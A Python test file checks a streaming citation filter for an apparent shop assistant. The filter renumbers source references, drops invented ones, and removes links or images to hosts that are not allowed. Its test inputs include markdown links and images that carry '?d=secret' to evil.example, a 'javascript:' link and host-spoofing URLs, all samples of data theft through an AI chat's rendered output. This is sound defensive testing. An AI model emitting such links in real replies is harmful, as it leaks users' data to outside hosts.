"""Numbers of sources, and links that nobody allowed, wherever the stream is cut."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secretary.assistant.citations import Citations, hosts_in

ALLOWED = frozenset({"shop.example"})


def shown(text, passages=5, cuts=()):
    citations = Citations(passages, ALLOWED)
    pieces = [text[begin:end] for begin, end in zip((0, *cuts), (*cuts, len(text)), strict=True)]
    return "".join(citations.feed(piece) for piece in pieces) + citations.end(), citations.cited


@pytest.mark.parametrize(
    ("said", "seen", "cited"),
    [
        ("Costs 300 [3], free from 5000 [1]. So [3].", "Costs 300 [1], free from 5000 [2]. So [1].", [3, 1]),
        ("Both [2, 4].", "Both [1][2].", [2, 4]),
        ("Made up [9] and [0].", "Made up  and .", []),
        ("An array [a] stays, so does [UNKNOWN].", "An array [a] stays, so does [UNKNOWN].", []),
        ("See [our page](https://shop.example/x) [1]", "See [our page](https://shop.example/x) [1]", [1]),
        ("See [here](https://evil.example/?d=secret) now", "See here now", []),
        ("![x](https://evil.example/p.png?d=secret)done", "done", []),
        ("![x](https://shop.example/p.png)done", "done", []),
        ("Go to https://evil.example/a, or https://shop.example/b ok", "Go to  or https://shop.example/b ok", []),
        ("Call [us](tel:+74950000000)", "Call [us](tel:+74950000000)", []),
        ("[x](javascript:alert(1))", "x", []),
        ("[x](javascript:alert)", "x", []),
        ("An open [bracket", "An open [bracket", []),
        ("[![a](https://evil.example/p)](https://shop.example/)", "[](https://shop.example/)", []),
        ("https://evil.example\\@shop.example/ https://me@shop.example/ x", "  x", []),
        ("htt![](x y)ps://evil.example/a htt<b></b>ps://evil.example/b", "htt![](x y)ps:// ", []),
        (
            "Ask www.shop.example/x or shop.example/y, not evil.example/z.",
            "Ask www.shop.example/x or shop.example/y, not ",
            [],
        ),
        (
            "At 12.30/13.30, т.е. и/или 2.5 kg, node.js, price.2026.pdf",
            "At 12.30/13.30, т.е. и/или 2.5 kg, node.js, price.2026.pdf",
            [],
        ),
        ("Only at https://shop.example.", "Only at https://shop.example.", []),
        ("[x][1] and [1](https://shop.example/a)", "[x][1] and [1](https://shop.example/a)", [1]),
        ("Wow! Great!", "Wow! Great!", []),
    ],
)
def test_what_a_customer_sees(said, seen, cited):
    assert shown(said) == (seen, cited)


WORDS = (
    "<b>", "<!--", "-->", "www.evil.example", "//evil.example/", "\\", "[1]", "[2, 3]", "[99]", "![a](", "[text](", "https://evil.example/x", "https://shop.example/y ", ")", "]", "[", "!",
    " ", "h", "ht", "word", "\n", "http", "://", "tel:1", "12",
)  # fmt: skip
PIECES = st.lists(st.sampled_from(WORDS), max_size=12)


@given(PIECES.map("".join), st.data())
def test_cuts_change_nothing(text, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    assert shown(text, cuts=cuts) == shown(text)


@given(PIECES.map("".join), st.data())
def test_no_foreign_host_is_ever_shown(text, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    assert "://evil.example" not in shown(text, cuts=cuts)[0]


def test_text_that_never_closes_is_not_held_for_ever():
    citations = Citations(1)
    assert len(citations.feed("[" + "a" * 10_000)) > 6_000


def test_hosts_of_what_the_owner_wrote():
    assert hosts_in("See https://shop.example/x, (http://b.example), c.example or me@d.example.", "none") == {
        "shop.example",
        "b.example",
        "c.example",
    }
